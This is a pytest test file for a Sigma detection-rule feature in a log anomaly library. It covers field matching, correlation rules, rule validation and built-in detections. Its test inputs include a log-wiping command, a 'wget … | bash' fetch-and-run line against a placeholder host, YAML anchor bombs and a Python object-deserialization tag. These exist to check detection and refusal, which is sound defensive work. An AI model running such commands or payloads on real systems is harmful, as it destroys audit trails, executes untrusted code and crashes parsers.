"""Sigma rules find what they describe: fields, words, addresses, times, and several events together."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from itertools import pairwise
from pathlib import Path

import numpy as np
import polars as pl
import pytest

from oddline.core.errors import ConfigError
from oddline.features import _sigma_correlation, _sigma_files
from oddline.features.sigma import Sigma
from oddline.pipeline.pipeline import Pipeline
from oddline.testing._records import records, templated
from oddline.testing._round_trip import round_trip
from oddline.windows.count import Count
from oddline.windows.line import Line

pytest.importorskip("sigma")

START = datetime(2026, 1, 1, 9, 59, 58, tzinfo=UTC)


def made(rows: list[dict], seconds: list[float] | None = None) -> pl.DataFrame:
    """Make Records: one row a dictionary, a second apart unless told otherwise."""
    times = seconds or list(range(len(rows)))
    names = list(dict.fromkeys(name for row in rows for name in row))
    frame = pl.DataFrame({name: [row.get(name) for row in rows] for name in names}, strict=False)
    frame = frame.with_columns(
        id=pl.int_range(pl.len(), dtype=pl.UInt64),
        ts=pl.Series([START + timedelta(seconds=one) for one in times], dtype=pl.Datetime("us", "UTC")),
    )
    return frame if "message" in names else frame.with_columns(message=pl.lit("", pl.String))


def fitted(tmp_path: Path, text: str, **settings) -> Sigma:
    (tmp_path / "rules.yml").write_text(text, encoding="utf-8")
    events = made([{"message": "a"}])
    return Sigma(files=(str(tmp_path / "rules.yml"),), built_in=False, **settings).fit(events, Line().assign(events))


def fires(feature: Sigma, events: pl.DataFrame, name: str = "Together") -> list[int]:
    """Give the rows at which a rule fires: that of this name, or the only one there is."""
    column = feature.names_.index(name) if name in feature.names_ else 0
    return np.flatnonzero(feature.transform(events, Line().assign(events)).whole()[:, column]).tolist()


def rule(detection: str, title: str = "A rule", more: str = "") -> str:
    body = "\n".join(f"  {line}" for line in detection.strip("\n").split("\n"))
    return f"title: {title}\nlogsource:\n  product: any\n{more}detection:\n{body}\n"


PROCESSES = [
    {"x_Image": r"C:\Windows\System32\cmd.exe", "x_CommandLine": "cmd /c whoami", "x_pid": 4},
    {"x_Image": r"C:\Windows\System32\WHOAMI.EXE", "x_CommandLine": "whoami /all", "x_pid": 900, "x_parent": "cmd"},
    {"x_Image": r"C:\temp\svchost.exe", "x_CommandLine": "svchost -k netsvcs", "x_pid": 17, "x_parent": "svchost -K"},
    {"x_Image": None, "x_CommandLine": "", "x_pid": None},
]

SELECTIONS = {
    "s:\n  CommandLine: cmd /c WHOAMI\ncondition: s": [0],
    "s:\n  CommandLine|cased: cmd /c WHOAMI\ncondition: s": [],
    "s:\n  CommandLine|contains: whoami\ncondition: s": [0, 1],
    "s:\n  CommandLine|contains|cased: Whoami\ncondition: s": [],
    "s:\n  CommandLine|contains|all:\n    - whoami\n    - /all\ncondition: s": [1],
    "s:\n  CommandLine|contains:\n    - /all\n    - netsvcs\ncondition: s": [1, 2],
    "s:\n  CommandLine|startswith: whoami\ncondition: s": [1],
    "s:\n  Image|endswith: '\\whoami.exe'\ncondition: s": [1],
    "s:\n  Image: 'C:\\\\*\\\\*.exe'\ncondition: s": [0, 1, 2],
    "s:\n  Image: '*\\\\svchost.ex?'\ncondition: s": [2],
    "s:\n  Image: 's*host.ex?'\ncondition: s": [],
    "s:\n  Image: '*s*host.e'\ncondition: s": [],
    "s:\n  Image: 'C:\\temp\\svchost.ex'\ncondition: s": [],
    "s:\n  CommandLine|re: 'who[a-z]+ /'\ncondition: s": [1],
    "s:\n  CommandLine|re: 'WHO[A-Z]+ /'\ncondition: s": [],
    "s:\n  CommandLine|re|i: 'WHO[A-Z]+ /'\ncondition: s": [1],
    "s:\n  pid|gt: 17\ncondition: s": [1],
    "s:\n  pid|gte: 17\ncondition: s": [1, 2],
    "s:\n  pid|lt: 17\ncondition: s": [0],
    "s:\n  pid|lte: 17\ncondition: s": [0, 2],
    "s:\n  pid: 17\ncondition: s": [2],
    "s:\n  pid|exists: true\ncondition: s": [0, 1, 2],
    "s:\n  pid|exists: false\ncondition: s": [3],
    "s:\n  Image: null\ncondition: s": [3],
    "s:\n  CommandLine: ''\ncondition: s": [3],
    "s:\n  CommandLine|windash|contains: '-all'\ncondition: s": [1],
    "s:\n  CommandLine|fieldref|startswith: parent\ncondition: s": [2],
    "a:\n  CommandLine|contains: whoami\nb:\n  Image|endswith: cmd.exe\ncondition: a and not b": [1],
    "a:\n  CommandLine|contains: whoami\ncondition: not a": [2, 3],
    "a1:\n  pid: 4\na2:\n  pid: 17\nb:\n  pid: 900\ncondition: 1 of a*": [0, 2],
    "a1:\n  pid: 4\na2:\n  CommandLine|contains: who\ncondition: all of them": [0],
    "a:\n  - pid: 4\n  - CommandLine|contains: netsvcs\ncondition: a": [0, 2],
    "a:\n  nowhere: 4\nb:\n  pid: 4\ncondition: a or b": [0],
    "a:\n  nowhere: 4\ncondition: not a": [0, 1, 2, 3],
    "a:\n  nowhere: null\ncondition: a": [0, 1, 2, 3],
    "a:\n  pid|neq: 4\ncondition: a": [1, 2, 3],
}


@pytest.mark.parametrize(("detection", "expected"), SELECTIONS.items(), ids=lambda one: repr(one)[:60])
def test_a_condition_finds_what_it_describes(tmp_path, detection, expected):
    assert fires(fitted(tmp_path, rule(detection)), made(PROCESSES)) == expected


ADDRESSES = ["10.1.2.3", "10.2.0.1", "192.168.7.9", "2001:db8::5", "2001:0DB8:0:0::6", "10.1.2.300", "no address", None]


@pytest.mark.parametrize(
    ("network", "expected"),
    [
        ("10.0.0.0/8", [0, 1]),
        ("10.1.0.0/16", [0]),
        ("192.168.7.9/32", [2]),
        ("0.0.0.0/0", [0, 1, 2]),
        ("2001:db8::/32", [3, 4]),
    ],
)
def test_addresses_of_a_network(tmp_path, network, expected):
    feature = fitted(tmp_path, rule(f"s:\n  src_ip|cidr: {network}\ncondition: s"))
    assert fires(feature, made([{"x_src_ip": address} for address in ADDRESSES])) == expected


def test_keywords_are_looked_for_in_the_whole_event(tmp_path):
    feature = fitted(tmp_path, rule("words:\n  - 'EVIL*thing'\n  - 4711\ncondition: words"))
    events = made([{"message": one} for one in ("an evil little thing here", "evil", "id 4711", "fine")])
    assert fires(feature, events) == [0, 2]
    head = events.with_columns(raw=pl.Series(["x", "x", "x", "evil program some thing: fine"]))
    assert fires(feature, head) == [3]


def test_all_keywords_must_be_there_where_the_rule_says_so(tmp_path):
    feature = fitted(tmp_path, rule("words:\n  '|all':\n    - one\n    - two\ncondition: words"))
    assert fires(feature, made([{"message": one} for one in ("one two", "one", "two")])) == [0]


def test_parts_of_a_time(tmp_path):
    feature = fitted(tmp_path, rule("s:\n  timestamp|hour: 10\ncondition: s"))
    assert fires(feature, made([{"message": "a"}] * 4)) == [2, 3]


def test_fields_have_the_names_that_people_give_them(tmp_path):
    web = made(
        [{"x_status": 200, "x_method": "GET", "service": "a"}, {"x_status": 404, "x_method": "PUT", "service": "b"}]
    )
    assert fires(fitted(tmp_path, rule("s:\n  sc-status: 404\n  cs-method: put\ncondition: s")), web) == [1]
    assert fires(fitted(tmp_path, rule("s:\n  Konto: a\ncondition: s"), fields={"Konto": "service"}), web) == [0]
    assert fires(fitted(tmp_path, rule("s:\n  Konto: a\ncondition: s"), fields={"Konto": "x_none"}), web) == []


@pytest.mark.parametrize(
    ("detection", "said"),
    [
        ("s:\n  a|foo: 1\ncondition: s", "foo"),
        ("s:\n  a|expand: '%list%'\ncondition: s", "expand"),
        ("s:\n  a|re: '(?=b)'\ncondition: s", "(?="),
        ("s:\n  a|re: '[b'\ncondition: s", "[b"),
        ("s:\n  a|cidr: 10.0.0.1/99\ncondition: s", "CIDR"),
        ("s:\n  a|hour: 10\ncondition: s", "no time"),
        ("s:\n  a: 1\ncondition: s | count() > 3", "pipe"),
        ("s:\n  a: 1\ncondition: s and t", "'t' not defined"),
        ("s:\n  a: 1\ncondition: s and and", "cannot be read"),
        ("s:\n  a: 1\ncondition: " + "not " * 2000 + "s", "cannot be read"),
        ("s: {}\ncondition: s", "empty"),
        ("s:\n  a: 1", "condition"),
    ],
)
def test_what_cannot_be_told_is_refused_with_rule_and_reason(tmp_path, detection, said):
    with pytest.raises(ConfigError) as told:
        fitted(tmp_path, rule(detection, title="Wicked"))
    assert "Wicked" in str(told.value)
    assert said in str(told.value)


def of_kind(kind: str, name: str) -> str:
    return rule(f"s:\n  kind: {kind}\ncondition: s", name.upper(), f"name: {name}\n")


BASE = of_kind("a", "a") + "---\n" + of_kind("b", "b")
TWICE = of_kind("a", "a") + "---\n" + of_kind("a", "b")


def correlation(kind: str, more: str, rules: str = "[a]", span: str = "10s", top: str = "level: high\n") -> str:
    lines = "".join(f"  {line}\n" for line in more.split("\n") if line)
    return (
        f"{BASE}---\ntitle: Together\n{top}correlation:\n  type: {kind}\n  rules: {rules}\n  timespan: {span}\n{lines}"
    )


def streams(kinds: str, seconds: list[float], **columns: list) -> pl.DataFrame:
    rows = [
        {"x_kind": kind, **{f"x_{name}": column[at] for name, column in columns.items()}}
        for at, kind in enumerate(kinds)
    ]
    return made(rows, seconds)


def test_many_events_within_a_span(tmp_path):
    feature = fitted(tmp_path, correlation("event_count", "condition: {gte: 3}"))
    assert fires(feature, streams("aaaabaa", [0, 1, 12, 13, 14, 22, 40])) == [5]
    assert feature.names_ == ["B", "Together"]
    assert fires(fitted(tmp_path, correlation("event_count", "condition: {gt: 2}")), streams("aaa", [0, 1, 10])) == [2]
    assert fires(fitted(tmp_path, correlation("event_count", "condition: {eq: 2}")), streams("aaa", [0, 1, 2])) == [1]


def test_events_are_counted_in_groups_and_those_without_one_take_no_part(tmp_path):
    feature = fitted(tmp_path, correlation("event_count", "group-by: [user, host]\ncondition: {gte: 2}"))
    events = streams("aaaaa", [0, 1, 2, 3, 4], user=["x", "y", "x", None, None], host=["h", "h", "h", "h", "h"])
    assert fires(feature, events) == [2]
    assert fires(feature, events.drop("x_host")) == []


def test_an_event_that_two_rules_find_is_one_event(tmp_path):
    text = correlation("event_count", "condition: {gte: 2}", "[a, b]").replace(BASE, TWICE)
    assert fires(fitted(tmp_path, text), streams("aa", [0, 1])) == [1]


def test_events_without_a_time_are_in_no_span(tmp_path):
    feature = fitted(tmp_path, correlation("event_count", "condition: {gte: 2}"))
    events = streams("aaa", [0, 1, 2]).with_columns(ts=pl.when(pl.col("id") != 1).then("ts"))
    assert fires(feature, events) == [2]
    assert fires(feature, events.with_columns(ts=pl.lit(None, events.schema["ts"]))) == []


def test_many_values_within_a_span(tmp_path):
    feature = fitted(tmp_path, correlation("value_count", "condition: {field: port, gte: 3}"))
    assert fires(feature, streams("aaaaa", [0, 1, 2, 3, 4], port=[1, 2, 1, 2, 3])) == [4]
    assert fires(feature, streams("aaaaa", [0, 1, 2, 3, 12], port=[1, 2, 1, 2, 3])) == [4]
    assert fires(feature, streams("aaaa", [0, 1, 20, 21], port=[1, 2, 3, 1])) == []
    assert fires(feature, streams("aaaa", [0, 1, 2, 3], port=[1, 2, None, 1])) == []


def test_several_rules_within_a_span_in_any_order(tmp_path):
    feature = fitted(tmp_path, correlation("temporal", "group-by: user", "[a, b]"))
    assert fires(feature, streams("baab", [0, 5, 30, 41], user=["x"] * 4)) == [1]
    assert fires(feature, streams("ba", [0, 5], user=["x", "y"])) == []


def test_several_rules_in_their_order(tmp_path):
    feature = fitted(tmp_path, correlation("temporal_ordered", "", "[a, b]"))
    assert fires(feature, streams("baab", [0, 5, 6, 9])) == [3]
    assert fires(feature, streams("ba", [0, 1])) == []
    assert fires(feature, streams("ab", [0, 11])) == []
    assert fires(feature, streams("ab", [0, 0])) == [1]


def test_an_event_does_not_come_after_itself(tmp_path):
    text = correlation("temporal_ordered", "", "[a, b]").replace(BASE, TWICE)
    assert fires(fitted(tmp_path, text), streams("a", [0])) == []
    assert fires(fitted(tmp_path, text), streams("aa", [0, 1])) == [1]


def test_conditions_over_rules(tmp_path):
    three = BASE + "---\n" + of_kind("c", "c")
    text = correlation("temporal", "condition: a and (b or c)", "[a, b, c]").replace(BASE, three)
    assert fires(fitted(tmp_path, text), streams("acb", [0, 1, 30])) == [1]
    assert fires(fitted(tmp_path, text), streams("bc", [0, 1])) == []


def test_fields_may_be_called_otherwise_in_each_rule(tmp_path):
    feature = fitted(
        tmp_path, correlation("temporal", "group-by: who\naliases:\n  who:\n    a: user\n    b: account", "[a, b]")
    )
    events = streams("ab", [0, 1], user=["x", "y"], account=["z", "x"])
    assert fires(feature, events) == [1]


def test_a_correlation_of_correlations(tmp_path):
    text = correlation("event_count", "condition: {gte: 3}", top="name: many\n") + (
        "---\ntitle: Then b\ncorrelation:\n  type: temporal_ordered\n  rules: [many, b]\n  timespan: 20s\n"
    )
    feature = fitted(tmp_path, text)
    assert feature.names_ == ["Then b"]
    assert fires(feature, streams("aaab", [0, 1, 2, 15])) == [3]
    assert fires(feature, streams("aabb", [0, 1, 2, 15])) == []


def test_what_a_correlation_refers_to_has_a_column_if_it_says_so(tmp_path):
    assert fitted(tmp_path, correlation("event_count", "condition: {gte: 3}\ngenerate: true")).names_ == [
        "A",
        "B",
        "Together",
    ]
    assert fitted(tmp_path, correlation("event_count", "condition: {gte: 3}")).names_ == ["B", "Together"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (correlation("event_count", "condition: {lt: 3}"), "lt 3"),
        (correlation("value_median", "condition: {gt: 3, field: port}"), "value_median"),
        (correlation("temporal", "condition: a and not b", "[a, b]"), "a and not b"),
        (correlation("temporal_ordered", "condition: a or b", "[a, b]"), "a or b"),
        (correlation("event_count", "condition: {gte: 3}", "[none]"), "none"),
        (correlation("event_count", "condition: {gte: 3}", span="10x"), "10x"),
        (correlation("sideways", "condition: {gte: 3}"), "sideways"),
        (correlation("event_count", "condition: {gte: many}"), "many"),
    ],
)
def test_correlations_that_cannot_be_told_are_refused(tmp_path, text, said):
    with pytest.raises(ConfigError) as told:
        fitted(tmp_path, text)
    assert said in str(told.value)


@pytest.mark.parametrize("seed", range(5))
def test_sliding_counts_are_those_of_a_walk_event_by_event(tmp_path, seed):
    """The arithmetic on sorted times says what a slow and plain loop says."""
    random = np.random.default_rng(seed)
    size = 200
    seconds = np.sort(random.integers(0, 120, size)).astype(float).tolist()
    kinds = "".join(random.choice(list("ab"), size))
    users, ports = random.choice(list("xyz"), size).tolist(), random.integers(0, 8, size).tolist()
    events = streams(kinds, seconds, user=users, port=ports)

    def slow(enough, *, of="a"):
        found = []
        for last in range(size):
            span = [at for at in range(last + 1) if seconds[at] >= seconds[last] - 10 and users[at] == users[last]]
            if kinds[last] in of and enough([at for at in span if kinds[at] in of], last):
                found.append(last)
        return found

    group = "group-by: user\n"
    counted = fitted(tmp_path, correlation("event_count", group + "condition: {gte: 4}"))
    assert fires(counted, events) == slow(lambda span, _: len(span) >= 4)
    valued = fitted(tmp_path, correlation("value_count", group + "condition: {field: port, gte: 4}"))
    assert fires(valued, events) == slow(lambda span, _: len({ports[at] for at in span}) >= 4)
    both = fitted(tmp_path, correlation("temporal", group, "[a, b]"))
    assert fires(both, events) == slow(lambda span, _: {kinds[at] for at in span} == {"a", "b"}, of="ab")
    ordered = fitted(tmp_path, correlation("temporal_ordered", group, "[a, b]"))
    assert fires(ordered, events) == slow(
        lambda span, last: kinds[last] == "b" and any(kinds[at] == "a" for at in span[:-1]), of="ab"
    )


def test_long_chains_begin_as_late_as_they_can(tmp_path):
    three = BASE + "---\n" + of_kind("c", "c")
    text = correlation("temporal_ordered", "", "[a, b, c]").replace(BASE, three)
    assert fires(fitted(tmp_path, text), streams("abaabcc", [0, 1, 8, 9, 12, 15, 40])) == [5]
    assert fires(fitted(tmp_path, text), streams("acb", [0, 1, 2])) == []


def test_hostile_yaml_is_refused_at_once(tmp_path):
    laughs = "a0: &a0 [x, x]\n" + "".join(f"a{n + 1}: &a{n + 1} [*a{n}, *a{n}]\n" for n in range(40))
    merges = "m0: &m0 {x: 1}\n" + "".join(f"m{n + 1}: &m{n + 1}\n  <<: [*m{n}, *m{n}]\n" for n in range(40))
    for text, said in (
        (laughs, "anchors"),
        (merges, "anchors"),
        ("[" * 20_000, "too deep"),
        ("a: " + "{a: " * 20_000, "too deep"),
        ("title: " + "x" * _sigma_files.LARGEST, "bytes"),
        ("!!python/object/apply:os.system ['true']", "cannot be read"),
        ("just text", "no rule"),
        ("- 1\n- 2", "no rule"),
        ("title: [1, 2]\nlogsource: 7\ndetection: 7", "rules.yml"),
        ("title: a\nlogsource: {product: a}\ndetection: {s: {a: {b: 1}}, condition: s}", "rules.yml"),
        ("", "holds no rule"),
        ("a: \x00", "cannot be read"),
    ):
        with pytest.raises(ConfigError) as told:
            fitted(tmp_path, text)
        assert said in str(told.value), text[:40]


def test_folders_are_read_whole_and_rules_may_refer_to_other_files(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "oddline.sigma" / "deep").mkdir(parents=True)
    first, second, third = correlation("event_count", "condition: {gte: 2}").split("---\n")
    for name, text in (("z.yml", first), ("deep/b.yaml", second), ("a.yml", third), ("notes.txt", "not a rule")):
        (tmp_path / "oddline.sigma" / name).write_text(text, encoding="utf-8")
    events = made([{"message": "a"}])
    feature = Sigma(built_in=False).fit(events, Line().assign(events))
    assert fires(feature, streams("aa", [0, 1])) == [1]
    (tmp_path / "empty").mkdir()
    with pytest.raises(ConfigError, match="holds no rules"):
        Sigma(files=("empty",)).fit(events, Line().assign(events))
    with pytest.raises(ConfigError, match="cannot be read"):
        Sigma(files=("nowhere.yml",)).fit(events, Line().assign(events))


def test_a_filter_takes_away_from_a_rule(tmp_path):
    text = BASE + (
        "---\ntitle: Not host h\nlogsource:\n  product: any\nfilter:\n  rules: [a]\n  except:\n    host: h\n"
        "  condition: not except\n"
    )
    events = streams("aa", [0, 1], host=["h", "g"])
    assert fires(fitted(tmp_path, text), events) == [1]


def test_log_sources_choose_among_the_rules(tmp_path):
    text = (
        correlation("event_count", "condition: {gte: 2}")
        + "---\n"
        + rule("s:\n  kind: a\ncondition: s", "Other").replace("product: any", "category: web")
    )
    assert fitted(tmp_path, text, logsource=("web",)).names_ == ["Other"]
    assert fitted(tmp_path, text, logsource=("any",)).names_ == ["B", "Together"]
    with pytest.raises(ConfigError, match="no Sigma rules"):
        fitted(tmp_path, text, logsource=("none",))


def test_informational_rules_and_levels(tmp_path):
    names = ("informational", "low", "medium", "high", "critical")
    text = "---\n".join(rule("s:\n  kind: a\ncondition: s", name, f"level: {name}\n") for name in names)
    feature = fitted(tmp_path, text)
    assert feature.names_ == list(names[1:])
    row = feature.transform(streams("a", [0]), Line().assign(streams("a", [0]))).whole()[0]
    assert all(first < second for first, second in pairwise(row))


def test_reasons_tell_the_fields_and_the_counts(tmp_path):
    text = correlation("event_count", "condition: {gte: 3}")
    feature, events = fitted(tmp_path, text), streams("aaab", [0, 1, 2, 3])
    feature.transform(events, Line().assign(events))
    assert str(feature.describe(events, 2, 1)) == "Together: 3 events within 10s, expected fewer than 3"
    assert str(feature.describe(events, 3, 0)) == "B: kind=b"


def test_fields_that_are_lists_are_their_parts(tmp_path):
    events = made([{"x_tags": ["one", "two"]}, {"x_tags": []}, {"x_tags": None}, {"x_tags": ["two"]}])
    assert fires(fitted(tmp_path, rule("s:\n  tags|contains: two\ncondition: s")), events) == [0, 3]


def test_a_reason_shows_the_event_around_the_word_that_was_found(tmp_path):
    feature = fitted(tmp_path, rule("words:\n  - none\n  - 'EVIL*thing'\ncondition: words"))
    events = made([{"message": "m", "raw": "a" * 200 + " an evil little thing " + "b" * 200}])
    feature.transform(events, Line().assign(events))
    assert feature.describe(events, 0, 0).seen.startswith("aaaaaa an evil little thing bbb")


def test_windows_of_several_events_have_what_any_of_them_has(tmp_path):
    feature = fitted(tmp_path, rule("s:\n  kind: b\ncondition: s"))
    events = streams("aabaa", [0, 1, 2, 3, 4]).with_columns(source=pl.lit("x").cast(pl.Categorical()))
    matrix = feature.transform(events, Count(2).assign(events))
    assert np.flatnonzero(matrix.whole()[:, 0]).tolist() == [1]
    assert feature.describe(events, 1, 0).seen == "kind=b"


def test_a_model_carries_its_rules(tmp_path):
    feature = fitted(tmp_path, correlation("event_count", "condition: {gte: 2}"))
    (tmp_path / "rules.yml").unlink()
    assert fires(round_trip(feature), streams("aa", [0, 1])) == [1]


def test_a_log_is_held_against_the_built_in_rules_by_its_pipeline():
    refused = [f"Failed password for root from 203.0.113.7 port {port} ssh2" for port in range(5000, 5012)]
    events = records(14, odd=False).with_columns(
        message=pl.Series([*refused, "Accepted password for root from 203.0.113.7 port 1 ssh2", "bye"]),
    )
    result = Pipeline(feature="sigma", detector="sigma").fit_detect(events.with_columns(raw=pl.col("message")))
    worst = max(result.anomalies, key=lambda anomaly: anomaly.surprise)
    assert worst.text.startswith("Accepted password")
    assert worst.reasons[0].what == "Login accepted after ten were refused"


def test_every_built_in_rule_can_be_told_and_ordinary_lines_fire_none():
    events = templated(300, odd=False)
    feature = Sigma(files=())
    assert not feature.fit_transform(events, Line().assign(events)).whole().any()
    assert len(feature.names_) == len(set(feature.names_)) >= 5
    lines = [
        "rm -rf /var/log/audit",
        "history -c",
        "logrotate: rm /var/log/x.1",
        "wget -qO- http://a/b | bash",
        "curl http://a",
    ]
    events = templated(len(lines)).with_columns(message=pl.Series(lines), raw=pl.Series(lines))
    assert np.flatnonzero(feature.transform(events, Line().assign(events)).whole().any(axis=1)).tolist() == [0, 1, 3]


def test_a_scan_of_a_web_server_is_many_paths_that_are_not_there():
    events = made([{"x_client": "203.0.113.7", "x_path": f"/{number}", "x_status": 404} for number in range(40)])
    feature = Sigma(files=()).fit(events, Line().assign(events))
    scan = "Scanner asks a web server for many paths that are not there"
    assert fires(feature, events, scan) == list(range(29, 40))
    assert fires(feature, events.with_columns(x_path=pl.lit("/same")), scan) == []
    assert fires(feature, events.with_columns(x_status=pl.lit(200)), scan) == []


def test_correlations_are_checked_by_the_kinds_that_are_built():
    assert {kind.lower() for kind in _sigma_correlation.KINDS} == {
        "event_count", "value_count", "temporal", "temporal_ordered",
    }  # fmt: skip
